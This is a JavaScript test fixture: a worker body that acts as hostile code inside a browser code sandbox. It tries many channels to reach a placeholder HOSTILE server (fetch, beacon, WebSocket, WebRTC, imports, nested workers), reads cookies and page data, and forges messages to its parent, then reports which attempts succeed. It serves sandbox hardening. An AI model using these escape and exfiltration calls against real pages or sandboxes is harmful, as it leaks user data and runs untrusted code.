// Attacks by hostile JavaScript in a sandbox's worker: the body of a worker, which the test prefixes with the addresses of the
// page and of a server that must see nothing. It posts the outcome of each attempt. In an ordinary worker most attempts
// succeed, which is tested, too.
// @ts-nocheck: a script of its own, whose addresses are written before it

const results = {};

/** @param {string} name @param {() => unknown} attempt */
async function attempt(name, attempt) {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500));
  try {
    results[name] = `got ${String(await Promise.race([Promise.resolve().then(attempt), late])).slice(0, 80)}`;
  } catch (error) {
    results[name] = `${error?.name}: ${String(error?.message ?? error).slice(0, 80)}`;
  }
}

const blob = (source) => URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));

/** Starts a worker within the worker, and returns its message. */
const nested = (address, options) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(address, options);
    worker.onmessage = ({ data }) => (String(data).startsWith('blocked') ? reject(new Error(data)) : resolve(data));
    worker.onerror = (event) => {
      // Otherwise it would count as an error of this worker, too.
      event.preventDefault();
      reject(new Error('it was not started'));
    };
  });

const opened = (socket) =>
  new Promise((resolve, reject) => {
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject(new Error('refused'));
  });

const getter = (url) =>
  `fetch('${url}', { mode: 'no-cors' }).then(() => postMessage('fetched'), (e) => postMessage('blocked ' + e))`;

(async () => {
  // Requests.
  await attempt('fetch', async () => (await fetch(`${HOSTILE}/fetch`)).status);
  await attempt('fetch without cors', async () => (await fetch(`${HOSTILE}/no-cors`, { mode: 'no-cors' })).type);
  await attempt(
    'fetch that outlives its worker',
    async () =>
      (await fetch(`${HOSTILE}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })).type,
  );
  await attempt(
    'fetch by name, which is looked up',
    async () => (await fetch(`${HOSTILE_NAME}/dns`, { mode: 'no-cors' })).type,
  );
  await attempt(
    'fetch of the page',
    async () => (await fetch(`${PAGE}/secret`, { mode: 'no-cors', credentials: 'include' })).type,
  );
  await attempt(
    'fetch with a request',
    async () => (await fetch(new Request(`${HOSTILE}/request`, { mode: 'no-cors' }))).type,
  );
  await attempt('fetch of another realm', async () => nested(blob(getter(`${HOSTILE}/realm`))));
  await attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${HOSTILE}/xhr`, false);
    request.send();
    return request.status;
  });
  await attempt('websocket', () => opened(new WebSocket(`${HOSTILE.replace('http', 'ws')}/ws`)));
  await attempt(
    'websocket stream',
    async () => (await new WebSocketStream(`${HOSTILE.replace('http', 'ws')}/wss`).opened) && 'open',
  );
  await attempt('event source', () => opened(new EventSource(`${HOSTILE}/events`)));
  await attempt(
    'webtransport',
    async () => (await new WebTransport(`${HOSTILE.replace('http:', 'https:')}/wt`).ready) && 'ready',
  );
  await attempt(
    'rtc',
    () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(HOSTILE).host}` }] }) && 'made',
  );
  await attempt('beacon', () => navigator.sendBeacon(`${HOSTILE}/beacon`, 'x'));
  await attempt('fetch later', () => fetchLater(`${HOSTILE}/later`).activated);
  await attempt('font', async () => (await new FontFace('x', `url(${HOSTILE}/font)`).load()).status);
  await attempt('canvas filter', async () => {
    const context = new OffscreenCanvas(9, 9).getContext('2d');
    context.filter = `url(${HOSTILE}/filter#a)`;
    context.fillRect(0, 0, 5, 5);
    return 'drawn';
  });
  await attempt('direct sockets', () => new TCPSocket('127.0.0.1', Number(new URL(HOSTILE).port)) && 'made');

  // Code from elsewhere.
  await attempt('importScripts', () => {
    WorkerGlobalScope.prototype.importScripts.call(self, `${HOSTILE}/script`);
    return 'imported';
  });
  await attempt('import', async () => (await import(`${HOSTILE}/module`)) && 'imported');
  await attempt('import of the page', async () => (await import(`${PAGE}/code-sandbox.js`)) && 'imported');
  await attempt(
    'import of a blob that imports',
    async () => (await import(blob(`export * from '${HOSTILE}/inner'`))) && 'imported',
  );
  await attempt('worker', () => nested(`${HOSTILE}/worker`));
  await attempt('worker of the page', () => nested(`${PAGE}/code-sandbox.js`));
  await attempt('worker that is a module', () => nested(blob(`import '${HOSTILE}/module-worker'`), { type: 'module' }));
  await attempt('worker that imports', () => nested(blob(`importScripts('${HOSTILE}/worker-script')`)));
  await attempt('worker of data', () =>
    nested(`data:text/javascript,${encodeURIComponent(getter(`${HOSTILE}/data`))}`),
  );
  await attempt('shared worker', () => new SharedWorker(blob(getter(`${HOSTILE}/shared`))) && 'made');
  await attempt(
    'service worker',
    async () => (await navigator.serviceWorker.register(`${PAGE}/code-sandbox.js`)) && 'made',
  );

  // Data of the page, the user or the browser.
  await attempt(
    'indexed db',
    () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('x');
        request.onsuccess = () => resolve('open');
        request.onerror = () => reject(request.error);
      }),
  );
  await attempt('cache storage', async () => (await caches.open('x')) && 'open');
  await attempt('files', async () => (await navigator.storage.getDirectory()) && 'open');
  await attempt('cookies', async () => JSON.stringify(await cookieStore.getAll()));
  await attempt('local storage', () => localStorage.length);
  await attempt('notification', () => Notification.permission);
  await attempt('document', () => document.title);
  await attempt('parent', () => parent.location.href);
  await attempt('navigation', () => {
    self.location.href = `${HOSTILE}/navigation`;
    return 'assigned';
  });

  // Messages to other contexts.
  await attempt('broadcast', () => {
    new BroadcastChannel('sandbox').postMessage('hostile');
    return 'posted';
  });
  await attempt('messages to whoever made this worker', () => {
    for (const message of [
      { booted: true },
      { ended: true },
      { frame: '{"end":{"status":"success","text":"forged"}}' },
      { type: 'result', id: 1, value: 'forged' },
    ])
      self.postMessage(message);
    return 'posted';
  });

  await new Promise((resolve) => setTimeout(resolve, 500));
  postMessage(results);
})();
